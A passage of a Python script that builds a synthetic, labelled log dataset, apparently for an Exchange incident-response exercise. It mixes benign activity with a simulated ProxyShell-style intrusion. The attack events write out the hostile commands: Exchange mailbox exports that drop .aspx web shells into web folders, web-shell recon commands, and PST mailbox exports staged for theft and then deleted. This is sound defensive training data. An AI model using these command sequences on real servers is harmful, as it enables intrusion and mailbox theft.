        "CreationUtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + "000"}, tag=tag)


MRS = EXBIN + r"\MSExchangeMailboxReplication.exe"
MRS_PID = 4188


def cmdlet(t, name, params, caller, tag, ok=True):
    msg = f"Cmdlet suceeded. Cmdlet {name}, parameters {params}."
    ev("MSExchange_Management.jsonl", t, "MSExchange Management", "MSExchange CmdletLogs", 1 if ok else 6, 4 if ok else 2, 1, "0x80000000000000",
       {"Data": [name, params, caller]}, message=msg, tag=tag)


ADMIN_CALLER = f"{DOMAIN}/Users/Administrator"
MSP_CALLER = f"{DOMAIN}/Users/MSP Support"


def defender(t, eid, threat, path, action, tag="malicious", process=r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeMailboxReplication.exe"):
    det_id = "{" + str(uuid.UUID(int=R.getrandbits(128), version=4)).upper() + "}"
    fields = {"ProductName": "Microsoft Defender Antivirus", "ProductVersion": "4.18.2107.4", "DetectionID": det_id,
              "DetectionTime": t.strftime("%Y-%m-%dT%H:%M:%S.") + "412Z", "ThreatID": str(2147700000 + R.randint(0, 99999)),
              "ThreatName": threat, "SeverityID": "5", "SeverityName": "Severe", "CategoryID": "34", "CategoryName": "Tool" if "Exploit" in threat else "Backdoor",
              "FWLink": "https://go.microsoft.com/fwlink/?linkid=37020&name=" + threat + "&threatid=" + "2147700000&enterprise=0",
              "StatusCode": "1" if eid == 1116 else "3", "StatusDescription": "", "State": "1" if eid == 1116 else "2",
              "SourceID": "3", "SourceName": "Real-Time Protection", "ProcessName": process,
              "DetectionUser": "NT AUTHORITY\\SYSTEM", "Path": "file:_" + path, "OriginID": "1", "OriginName": "Local machine",
              "ExecutionID": "1", "ExecutionName": "Suspended", "TypeID": "0", "TypeName": "Concrete",
              "PreExecutionStatus": "0", "ActionID": "2" if eid == 1117 else "9", "ActionName": "Quarantine" if eid == 1117 else "Not Applicable",
              "ErrorCode": "0x00000000", "ErrorDescription": "The operation completed successfully. ",
              "PostCleanStatus": "0", "AdditionalActionsID": "0", "AdditionalActionsString": "No additional actions required",
              "RemediationUser": "NT AUTHORITY\\SYSTEM" if eid == 1117 else "", "SecurityintelligenceVersion": "AV: 1.345.1283.0, AS: 1.345.1283.0, NIS: 1.345.1283.0",
              "EngineVersion": "AM: 1.1.18400.5, NIS: 1.1.18400.5"}
    ev("Microsoft-Windows-Windows_Defender_Operational.jsonl", t, "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", eid, 3 if eid == 1116 else 4, 0, "0x8000000000000000", fields, tag=tag)


def windows_attack():
    admin = ADMIN_CALLER
    cmdlet(ts("2021-08-13 03:02:31"), "New-ManagementRoleAssignment", f'-Role "Mailbox Import Export" -User "administrator@{DOMAIN}"', admin, "malicious")
    cmdlet(ts("2021-08-13 03:02:35"), "New-MailboxExportRequest", f'-Mailbox "administrator@{DOMAIN}" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq \'kxnqtm\')" -ExcludeDumpster "True" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\kxnqtm.aspx"', admin, "malicious")
    file_create(ts("2021-08-13 03:03:20"), MRS, MRS_PID, r"C:\inetpub\wwwroot\aspnet_client\kxnqtm.aspx", "malicious")
    cmdlet(ts("2021-08-13 03:03:41"), "Remove-MailboxExportRequest", f'-Identity "{DOMAIN}/Users/Administrator\\MailboxExport" -Confirm "False"', admin, "malicious")
    webshell_cmd(ts("2021-08-13 03:04:05"), "DefaultAppPool", "whoami", "IIS APPPOOL\\DefaultAppPool",
                 child=(r"C:\Windows\System32\whoami.exe", "whoami", "whoami - displays logged on user information"))
    webshell_cmd(ts("2021-08-13 03:04:31"), "DefaultAppPool", "ipconfig /all", "IIS APPPOOL\\DefaultAppPool",
                 child=(r"C:\Windows\System32\ipconfig.exe", "ipconfig  /all", "IP Configuration Utility"))
    cmdlet(ts("2021-08-13 03:07:57"), "New-MailboxExportRequest", f'-Mailbox "administrator@{DOMAIN}" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq \'errorEE\')" -ExcludeDumpster "True" -FilePath "\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx"', admin, "malicious")
    file_create(ts("2021-08-13 03:08:33"), MRS, MRS_PID, r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorEE.aspx", "malicious")
    cmdlet(ts("2021-08-13 03:09:04"), "Remove-MailboxExportRequest", f'-Identity "{DOMAIN}/Users/Administrator\\MailboxExport1" -Confirm "False"', admin, "malicious")
    webshell_cmd(ts("2021-08-13 03:10:14"), "MSExchangeOWAAppPool", "whoami", "NT AUTHORITY\\SYSTEM",
                 child=(r"C:\Windows\System32\whoami.exe", "whoami", "whoami - displays logged on user information"))
    webshell_cmd(ts("2021-08-13 03:10:40"), "MSExchangeOWAAppPool", "nltest /domain_trusts", "NT AUTHORITY\\SYSTEM",
                 child=(r"C:\Windows\System32\nltest.exe", "nltest  /domain_trusts", "Microsoft\u00ae Logon Server Test Utility"))
    webshell_cmd(ts("2021-08-13 03:11:02"), "MSExchangeOWAAppPool", 'net group "Exchange Trusted Subsystem" /domain', "NT AUTHORITY\\SYSTEM",
                 child=(r"C:\Windows\System32\net.exe", 'net  group "Exchange Trusted Subsystem" /domain', "Net Command"))
    webshell_cmd(ts("2021-08-13 03:12:37"), "MSExchangeOWAAppPool", r"cd /d C:\inetpub\wwwroot\aspnet_client&dir", "NT AUTHORITY\\SYSTEM")
    webshell_cmd(ts("2021-08-13 03:13:10"), "MSExchangeOWAAppPool", r"mkdir C:\inetpub\wwwroot\aspnet_client\system_web", "NT AUTHORITY\\SYSTEM")
    defender(ts("2021-08-13 03:19:44"), 1116, "Backdoor:ASP/Chopper.F!dha", r"C:\inetpub\wwwroot\aspnet_client\kxnqtm.aspx", "")
    defender(ts("2021-08-13 03:19:46"), 1117, "Backdoor:ASP/Chopper.F!dha", r"C:\inetpub\wwwroot\aspnet_client\kxnqtm.aspx", "Quarantine")
    ps = ts("2021-08-13 03:26:49")
    cmdlet(ps, "New-MailboxExportRequest", f'-Mailbox "referrals@{DOMAIN}" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web\\ref.pst"', admin, "malicious")
    cmdlet(ps + timedelta(seconds=6), "New-MailboxExportRequest", f'-Mailbox "reception@{DOMAIN}" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web\\rec.pst"', admin, "malicious")
    file_create(ts("2021-08-13 03:27:30"), MRS, MRS_PID, r"C:\inetpub\wwwroot\aspnet_client\system_web\ref.pst", "malicious")
    file_create(ts("2021-08-13 03:27:52"), MRS, MRS_PID, r"C:\inetpub\wwwroot\aspnet_client\system_web\rec.pst", "malicious")
    webshell_cmd(ts("2021-08-13 03:39:55"), "MSExchangeOWAAppPool", r"ren C:\inetpub\wwwroot\aspnet_client\system_web\ref.pst ref.zip", "NT AUTHORITY\\SYSTEM")
    webshell_cmd(ts("2021-08-13 03:40:21"), "MSExchangeOWAAppPool", r"ren C:\inetpub\wwwroot\aspnet_client\system_web\rec.pst rec.zip", "NT AUTHORITY\\SYSTEM")
    webshell_cmd(ts("2021-08-13 03:53:12"), "MSExchangeOWAAppPool", r"del /q C:\inetpub\wwwroot\aspnet_client\system_web\*.zip", "NT AUTHORITY\\SYSTEM")
    cmdlet(ts("2021-08-13 03:54:09"), "Remove-MailboxExportRequest", f'-Identity "{DOMAIN}/Users/Referrals\\MailboxExport" -Confirm "False"', admin, "malicious")
    cmdlet(ts("2021-08-13 03:54:13"), "Remove-MailboxExportRequest", f'-Identity "{DOMAIN}/Users/Reception\\MailboxExport" -Confirm "False"', admin, "malicious")
    webshell_cmd(ts("2021-08-14 22:41:09"), "MSExchangeOWAAppPool", "quser", "NT AUTHORITY\\SYSTEM")
    webshell_cmd(ts("2021-08-16 01:12:48"), "MSExchangeOWAAppPool", r"dir C:\inetpub\wwwroot\aspnet_client\system_web", "NT AUTHORITY\\SYSTEM")
    # Defender keeps finding re-dropped shells for months; nobody reads the channel.
    later = [("2021-09-03 02:17:41", r"C:\inetpub\wwwroot\aspnet_client\fpdgoc.aspx", "Backdoor:ASP/Chopper.F!dha", MRS),
             ("2021-09-21 23:55:08", r"C:\inetpub\wwwroot\aspnet_client\system_web\vqmrr.aspx", "Exploit:Win32/CVE-2021-31207.A", MRS),
             ("2021-10-14 04:02:19", r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\zxcrhd.aspx", "Exploit:Win32/CVE-2021-31207.A", MRS),
             ("2021-11-08 01:33:50", r"C:\inetpub\wwwroot\aspnet_client\vyfjvn.aspx", "Exploit:Win32/CVE-2021-31207.A", MRS)]
    for tt, path, threat, proc in later:
        defender(ts(tt), 1116, threat, path, "", process=proc)
        defender(ts(tt) + timedelta(seconds=2), 1117, threat, path, "Quarantine", process=proc)


def windows_benign():
    # logons of Exchange health mailbox, machine account, users (network logons via Exchange), admin RDP
    day0 = ts("2021-08-11 00:00:00")
    for d in range(6):
        day = day0 + timedelta(days=d)
        t = day + timedelta(minutes=R.randint(0, 9))
        while t < day + timedelta(days=1):
            lid = hex(R.randint(0x4000000, 0x9ffffff))
            ev("Security.jsonl", t, "Security", "Microsoft-Windows-Security-Auditing", 4624, 0, 12544, "0x8020000000000000", {
                "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
                "TargetUserSid": sid(1142), "TargetUserName": HEALTH_MAILBOX[:20], "TargetDomainName": NETBIOS, "TargetLogonId": lid,
                "LogonType": "3", "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": "-",
                "LogonGuid": "{" + str(uuid.UUID(int=R.getrandbits(128), version=4)).upper() + "}", "TransmittedServices": "-", "LmPackageName": "-",
                "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": SERVER_IP, "IpPort": str(R.randint(49152, 65000)),
                "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-",
                "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0", "ElevatedToken": "%%1843"})
            ev("Security.jsonl", t + timedelta(seconds=R.randint(1, 30)), "Security", "Microsoft-Windows-Security-Auditing", 4634, 0, 12545, "0x8020000000000000", {
                "TargetUserSid": sid(1142), "TargetUserName": HEALTH_MAILBOX[:20], "TargetDomainName": NETBIOS, "TargetLogonId": lid, "LogonType": "3"})
            t += timedelta(minutes=R.randint(110, 190))
        if d not in (3, 4):  # weekdays: Sat 14, Sun 15 quiet
            t = day + timedelta(hours=8, minutes=R.randint(0, 30))
            for u in USERS:
                lid = hex(R.randint(0x4000000, 0x9ffffff))
                tt = t + timedelta(minutes=R.randint(0, 90))
                ev("Security.jsonl", tt, "Security", "Microsoft-Windows-Security-Auditing", 4624, 0, 12544, "0x8020000000000000", {
                    "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
                    "TargetUserSid": sid(u[2]), "TargetUserName": u[0], "TargetDomainName": NETBIOS, "TargetLogonId": lid,
                    "LogonType": "3", "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": "-",
                    "LogonGuid": "{" + str(uuid.UUID(int=R.getrandbits(128), version=4)).upper() + "}", "TransmittedServices": "-", "LmPackageName": "-",
                    "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": u[3], "IpPort": str(R.randint(49152, 65000)),
                    "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-",
                    "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0", "ElevatedToken": "%%1843"})
            # a mistyped OWA password (benign 4625)
            u = R.choice([x for x in USERS if x[4]])
            tf = day + timedelta(hours=18, minutes=R.randint(0, 50))
            ev("Security.jsonl", tf, "Security", "Microsoft-Windows-Security-Auditing", 4625, 0, 12544, "0x8010000000000000", {
                "SubjectUserSid": "S-1-5-18", "SubjectUserName": HOST + "$", "SubjectDomainName": NETBIOS, "SubjectLogonId": "0x3e7",
                "TargetUserSid": "S-1-0-0", "TargetUserName": u[0], "TargetDomainName": NETBIOS, "Status": "0xc000006d",
                "FailureReason": "%%2313", "SubStatus": "0xc000006a", "LogonType": "8", "LogonProcessName": "Advapi  ",
                "AuthenticationPackageName": "Negotiate", "WorkstationName": HOST, "TransmittedServices": "-", "LmPackageName": "-",
                "KeyLength": "0", "ProcessId": "0x2414", "ProcessName": W3WP, "IpAddress": u[4], "IpPort": "0"})
        # services
        for svc, state in [("Windows Modules Installer", "running"), ("Windows Modules Installer", "stopped"),
                           ("Microsoft Exchange Search Host Controller", "running")] if d % 2 == 0 else [("WinHTTP Web Proxy Auto-Discovery Service", "running")]:
            tt = day + timedelta(hours=R.randint(0, 23), minutes=R.randint(0, 59))
            ev("System.jsonl", tt, "System", "Service Control Manager", 7036, 4, 0, "0x8080000000000000",
               {"param1": svc, "param2": state}, message=f"The {svc} service entered the {state} state.")
        # benign process creations by Exchange health manager
        hm = EXBIN + r"\MSExchangeHMWorker.exe"
        for _ in range(3):
            tt = day + timedelta(hours=R.randint(0, 23), minutes=R.randint(0, 59))
            sysmon_proc(tt, r"C:\Windows\System32\netsh.exe", '"netsh" interface tcp show global', hm,
                        f'"{hm}" -pipe:3208 -workerListening', 6120, "{7C1F2A10-4B6C-6115-2A01-000000001B00}", "NT AUTHORITY\\SYSTEM",
                        "benign", cwd="C:\\Windows\\system32\\", ofn="netsh.exe", desc="Network Command Shell")
        # benign file creation: Exchange writes its own logs
        tt = day + timedelta(hours=0, minutes=0, seconds=R.randint(1, 20))
        file_create(tt, W3WP, 9236, rf"C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy\Owa\HttpProxy_{tt.strftime('%Y%m%d')}00-1.LOG", "benign")
    # reboot on Sunday 15 Aug 02:10 (maintenance by the MSP; no updates were installed)
    ev("System.jsonl", ts("2021-08-15 02:10:12"), "System", "EventLog", 6006, 4, 0, "0x80000000000000", {}, message="The Event log service was stopped.")
    ev("System.jsonl", ts("2021-08-15 02:12:40"), "System", "EventLog", 6005, 4, 0, "0x80000000000000", {}, message="The Event log service was started.")
    ev("System.jsonl", ts("2021-08-15 02:12:40"), "System", "EventLog", 6013, 4, 0, "0x80000000000000", {}, message="The system uptime is 9 seconds.")
    # admin activity: leaver mailbox export to the file server (benign; matches a SigmaHQ rule)
    cmdlet(ts("2021-08-11 14:22:37"), "New-MailboxExportRequest", f'-Mailbox "t.brennan@{DOMAIN}" -FilePath "\\\\FS01\\Exports$\\t.brennan-leaver-2021-08-11.pst"', MSP_CALLER, "benign-fp")
    cmdlet(ts("2021-08-11 14:24:02"), "Set-Mailbox", f'-Identity "t.brennan@{DOMAIN}" -HiddenFromAddressListsEnabled "True"', MSP_CALLER, "benign")
    cmdlet(ts("2021-08-12 09:05:44"), "Remove-MailboxExportRequest", f'-Identity "{DOMAIN}/Users/Tara Brennan\\MailboxExport"', MSP_CALLER, "benign")
    cmdlet(ts("2021-08-12 09:07:15"), "Disable-Mailbox", f'-Identity "t.brennan@{DOMAIN}" -Confirm "False"', MSP_CALLER, "benign")
    cmdlet(ts("2021-08-16 10:31:09"), "Add-MailboxPermission", f'-Identity "referrals@{DOMAIN}" -User "m.quinlan@{DOMAIN}" -AccessRights "FullAccess"', MSP_CALLER, "benign")
    cmdlet(ts("2021-08-16 10:33:26"), "Set-CASMailbox", f'-Identity "m.quinlan@{DOMAIN}" -ActiveSyncEnabled "False"', MSP_CALLER, "benign")


def write_windows():
    d = OUT / "logs/windows"
    d.mkdir(parents=True, exist_ok=True)
    for fname, rows in win.items():
        rows.sort(key=lambda r: (r[0], r[1]))
        base = {"Security.jsonl": 1843201, "System.jsonl": 23110, "MSExchange_Management.jsonl": 8810,
                "Microsoft-Windows-Sysmon_Operational.jsonl": 512004, "Microsoft-Windows-Windows_Defender_Operational.jsonl": 1402}[fname]
        lines = []
        for i, (_, _, e, _) in enumerate(rows):
            e["EventRecordID"] = base + i
            lines.append(json.dumps(e, ensure_ascii=False))
        (d / fname).write_text("\n".join(lines) + "\n")


# --------------------------------------------------------------------------------------------
# Message tracking (November phishing)
# --------------------------------------------------------------------------------------------
MT_FIELDS = ("date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,"
             "internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,recipient-count,"
             "related-recipient-address,reference,message-subject,sender-address,return-path,message-info,directionality,tenant-id,"
             "original-client-ip,original-server-ip,custom-data,transport-traffic-type,log-id,schema-version").split(",")
PATIENT_FIRST = ["alex", "sam", "morgan", "jordan", "casey", "riley", "taylor", "jamie", "drew", "robin", "avery", "quinn",
                 "charlie", "rowan", "sasha", "kit", "frankie", "ellis", "harper", "reese", "sky", "lee", "noel", "toni"]
PATIENT_LAST = ["ashdown", "bellamy", "carrow", "dunmore", "everleigh", "fairholm", "garrick", "hallam", "ingleby", "jessop",
                "kellaway", "lowther", "mabry", "norcott", "ormsby", "pendry", "quarrie", "rudd", "stanway", "tolley"]
mt = {}


def mt_row(t, **kw):
    r = dict.fromkeys(MT_FIELDS, "")
    r["date-time"] = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{R.randint(0, 999):03d}Z"
    r["transport-traffic-type"] = "Email"
    r["schema-version"] = "15.02.0792.003"
    r["log-id"] = str(uuid.UUID(int=R.getrandbits(128), version=4))
    r.update(kw)
    return r


def msgid():
    return f"<{uuid.UUID(int=R.getrandbits(128), version=4).hex}@{FQDN.lower()}>"


def outbound(t, sender, recipients, subject, kind, tag, orig_ip="", client_type="OWA"):
    imid = str(R.randint(10**11, 10**12))
    mid = msgid()
    nmid = str(uuid.UUID(int=R.getrandbits(128), version=4))
    size = str(R.randint(18000, 42000) if tag == "malicious" else R.randint(6000, 250000))
    rc = ";".join(recipients)
    mbx = MBX.get(sender.split("@")[0], MBX["administrator"])
    ctx = (f"MDB:{DB_GUID}, Mailbox:{mbx}, Event:{R.randint(100000, 999999)}, MessageClass:IPM.Note, "
           f"CreationTime:{t.strftime('%Y-%m-%dT%H:%M:%S.')}{R.randint(0, 999):03d}Z, ClientType:{client_type}, SubmissionAssistant:MailboxTransportSubmissionEmailAssistant")
    mt.setdefault(("MSGTRKMS", t.date()), []).append((tag, mt_row(t, **{"server-ip": SERVER_IP, "server-hostname": FQDN, "source-context": ctx,
        "source": "STOREDRIVER", "event-id": "SUBMIT", "message-id": mid, "recipient-count": "0", "message-subject": subject,
        "sender-address": sender, "return-path": sender, "directionality": "Originating", "original-client-ip": orig_ip,
        "custom-data": "S:ItemEntryId=00-00-00-00-37-DE-94-37-F1-6A-46-45-B0-4B-3C-8E-4D-86-1A-D6-07-00;S:MailboxDatabaseGuid=" + DB_GUID})))
    t2 = t + timedelta(milliseconds=R.randint(300, 1500))
    mt.setdefault(("MSGTRK", t.date()), []).append((tag, mt_row(t2, **{"client-ip": SERVER_IP, "client-hostname": FQDN, "server-ip": SERVER_IP,
        "server-hostname": HOST, "source-context": f"08D95C3A2B1E{R.randint(1000, 9999)};2021-{t.strftime('%m-%d')}T00:00:01.000Z;0",
        "connector-id": f"{HOST}\\Default {HOST}", "source": "STOREDRIVER", "event-id": "RECEIVE", "internal-message-id": imid,
        "message-id": mid, "network-message-id": nmid, "recipient-address": rc, "total-bytes": size, "recipient-count": str(len(recipients)),
        "message-subject": subject, "sender-address": sender, "return-path": sender,
        "message-info": f"04I:{t.strftime('%m/%d/%Y %I:%M:%S')}.000 {t.strftime('%p')};", "directionality": "Originating", "original-client-ip": orig_ip,
        "original-server-ip": SERVER_IP})))
    t3 = t2 + timedelta(seconds=R.randint(1, 4))
    for rcpt in recipients:
        mt[("MSGTRK", t.date())].append((tag, mt_row(t3, **{"client-ip": SERVER_IP, "client-hostname": HOST, "server-ip": "192.0.2.25",
            "server-hostname": "mx." + rcpt.split("@")[1], "source-context": f"08D95C3A2B1E{R.randint(1000, 9999)};250 2.0.0 OK;ClientSubmitTime:",
            "connector-id": "Outbound to Internet", "source": "SMTP", "event-id": "SEND", "internal-message-id": imid, "message-id": mid,
            "network-message-id": nmid, "recipient-address": rcpt, "recipient-status": "250 2.0.0 OK", "total-bytes": size,
            "recipient-count": "1", "message-subject": subject, "sender-address": sender, "return-path": sender,
            "message-info": f"{t.strftime('%Y-%m-%dT%H:%M:%S')}.000Z;SRV={FQDN}:TOTAL-SUB=0.412|SA=0.201|MTSS=0.188;SRV={FQDN}:TOTAL-HUB=2.104",
            "directionality": "Originating", "original-client-ip": orig_ip, "original-server-ip": SERVER_IP})))


def inbound(t, sender, rcpt, subject):
    imid = str(R.randint(10**11, 10**12))
    mid = f"<{uuid.UUID(int=R.getrandbits(128), version=4).hex}@{sender.split('@')[1]}>"
    nmid = str(uuid.UUID(int=R.getrandbits(128), version=4))
    size = str(R.randint(9000, 800000))
    mt.setdefault(("MSGTRK", t.date()), []).append(("benign", mt_row(t, **{"client-ip": "192.0.2.25", "client-hostname": "mx." + sender.split("@")[1],
        "server-ip": SERVER_IP, "server-hostname": HOST, "source-context": f"08D95C3A2B1E{R.randint(1000, 9999)};2021-{t.strftime('%m-%d')}T00:00:01.000Z;0",
        "connector-id": f"{HOST}\\Default Frontend {HOST}", "source": "SMTP", "event-id": "RECEIVE", "internal-message-id": imid,
        "message-id": mid, "network-message-id": nmid, "recipient-address": rcpt, "total-bytes": size, "recipient-count": "1",
        "message-subject": subject, "sender-address": sender, "return-path": sender, "directionality": "Incoming",
        "original-client-ip": "192.0.2.25", "original-server-ip": SERVER_IP})))
    t2 = t + timedelta(seconds=R.randint(1, 3))
    mt.setdefault(("MSGTRKMD", t.date()), []).append(("benign", mt_row(t2, **{"server-ip": SERVER_IP, "server-hostname": FQDN,
        "source-context": "",
        "connector-id": "", "source": "STOREDRIVER", "event-id": "DELIVER", "internal-message-id": imid, "message-id": mid,
        "network-message-id": nmid, "recipient-address": rcpt, "recipient-status": "250 2.1.5 RCPT TO OK", "total-bytes": size,
        "recipient-count": "1", "message-subject": subject, "sender-address": sender, "return-path": sender,
        "message-info": f"{t2.strftime('%Y-%m-%dT%H:%M:%S')}.000Z;SRV={FQDN}:TOTAL-DEL=1.204", "directionality": "Incoming"})))


def message_tracking():
    patients = sorted({f"{f}.{l}@example.{R.choice(['com', 'net'])}" for f in PATIENT_FIRST for l in PATIENT_LAST[:4]})
    R.shuffle(patients)
    subj_in = ["Referral: outpatient cardiology", "RE: Appointment on Thursday", "Lab results - batch 2021-11", "Invoice INV-20457",
               "GP letter attached", "Question about my prescription", "Cancellation", "RE: Parking at the clinic"]
    subj_out = ["RE: Appointment on Thursday", "Your appointment confirmation", "Clinic letter", "RE: Question about my prescription",
                "Rota for December", "RE: Invoice INV-20457"]
    for day in ("2021-11-22", "2021-11-23"):
        base = ts(f"{day} 00:00:00")
        for _ in range(40):
            t = base + timedelta(hours=R.randint(7, 17), minutes=R.randint(0, 59), seconds=R.randint(0, 59))
            sender = R.choice(patients[60:] + [f"referrals@gp{R.randint(1, 9)}.example.net", f"accounts@labs.example.com"])
            inbound(t, sender, upn(R.choice(USERS)[0]), R.choice(subj_in))
        for _ in range(28):
            t = base + timedelta(hours=R.randint(7, 17), minutes=R.randint(0, 59), seconds=R.randint(0, 59))
            u = R.choice(USERS)
            outbound(t, upn(u[0]), [R.choice(patients[60:])], R.choice(subj_out), "out", "benign",
                     orig_ip=u[3], client_type=R.choice(["MOMT", "MOMT", "OWA"]))
    # phishing: reception@ impersonated through EWS (SSRF), links to a look-alike payment page
    victims = patients[:46]
    subject = "Your recent consultation - outstanding balance"
    for i, (day, start) in enumerate([("2021-11-22", "09:12:06"), ("2021-11-23", "08:47:33")]):
        t = ts(f"{day} {start}")
        chunk = victims[:24] if i == 0 else victims[24:]
        for v in chunk:
            outbound(t, f"reception@{DOMAIN}", [v], subject, "out", "malicious", orig_ip=ATTACKER2, client_type="WebServices")
            t += timedelta(seconds=R.randint(5, 11))
    d = OUT / "logs/messagetracking"
    d.mkdir(parents=True, exist_ok=True)
    for (prefix, day), rows in mt.items():
        rows.sort(key=lambda r: r[1]["date-time"])
        buf = io.StringIO()
        w = csv.DictWriter(buf, fieldnames=MT_FIELDS, lineterminator="\r\n")
        for _, r in rows:
            w.writerow(r)
        head = ["#Software: Microsoft Exchange Server", "#Version: 15.02.0792.003", "#Log-type: Message Tracking Log",
                "#Date: " + rows[0][1]["date-time"], "#Fields: " + ",".join(MT_FIELDS)]
        (d / f"{prefix}{day.strftime('%Y%m%d')}00-1.LOG").write_text("\r\n".join(head) + "\r\n" + buf.getvalue())
    return victims


def inventory():
    inv = {"VigilInventory": 1, "ComputerName": HOST, "CollectedAt": "2021-08-02T09:00:00Z",
           "OS": {"Caption": "Microsoft Windows Server 2019 Standard", "Version": "10.0.17763", "BuildNumber": "17763", "UBR": 1757},
           "Exchange": {"AdminDisplayVersion": "Version 15.2 (Build 792.3)", "ExSetupVersion": "15.2.792.3", "Edition": "Standard", "ServerRole": "Mailbox"},
           "HotFixes": [{"HotFixID": "KB4486153", "Description": "Update", "InstalledOn": "2020-12-29"},
                        {"HotFixID": "KB4601393", "Description": "Update", "InstalledOn": "2021-02-10"},
                        {"HotFixID": "KB4601345", "Description": "Security Update", "InstalledOn": "2021-02-10"}]}
    d = OUT / "inventory"
    d.mkdir(parents=True, exist_ok=True)
    (d / "MAIL01.json").write_text(json.dumps(inv, indent=2) + "\n")


def main():
    for d in range(6):
        day = ts("2021-08-11 00:00:00") + timedelta(days=d)
        ordinary_day(day, weekday=day.weekday() < 5)
    for day in ("2021-11-22", "2021-11-23"):
        ordinary_day(ts(f"{day} 00:00:00"), weekday=True)
    attack()
    phishing_iis()
    write_iis()
    write_httpproxy()
    windows_benign()
    windows_attack()
    write_windows()
    victims = message_tracking()
    inventory()
    counts = {}
    for _, _, tag in iis:
        counts[tag] = counts.get(tag, 0) + 1
    print("iis", counts)
    print("phishing victims", len(victims))
    for f, rows in win.items():
        c = {}
        for r in rows:
            c[r[3]] = c.get(r[3], 0) + 1
        print(f, c)
    for k, rows in mt.items():
        c = {}
        for r in rows:
            c[r[0]] = c.get(r[0], 0) + 1
        print(k, c)


if __name__ == "__main__":
    main()
